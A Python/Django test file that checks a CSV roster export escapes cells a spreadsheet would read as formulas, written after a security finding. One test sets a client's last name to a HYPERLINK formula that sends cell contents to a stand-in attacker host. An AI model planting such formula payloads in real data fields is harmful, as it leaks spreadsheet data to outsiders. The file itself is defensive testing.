"""Security finding 6: a last name `=HYPERLINK(…)` came out of the roster CSV as a live formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from guichet.accounts.models import Role
from guichet.core.exports import neutralise


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_reads_as_formulas_are_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_cells_are_unchanged() -> None:
    assert neutralise("O'Brien") == "O'Brien" and neutralise(52184) == "52184"
    assert neutralise(None) == ""


@pytest.mark.django_db
def test_the_roster_csv_holds_no_live_formula(client: Any) -> None:
    from guichet.accounts.tests.factories import staff
    from guichet.appointments.services import book
    from guichet.appointments.tests.factories import PlaceFactory, SessionFactory
    from guichet.appointments.tests.test_booking import registered_client, user_of

    attacker = registered_client()
    attacker.last_name = '=HYPERLINK("http://evil.example/?d="&A1,"Voir")'
    attacker.save()
    session = SessionFactory.create(place=PlaceFactory.create())
    book(client=attacker, session=session, actor=user_of(attacker))
    client.force_login(staff(Role.PARTNER_STAFF, session.organisation))
    response = client.get(reverse("backoffice:roster_csv", kwargs={"session_id": session.pk}))
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + attacker.last_name
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
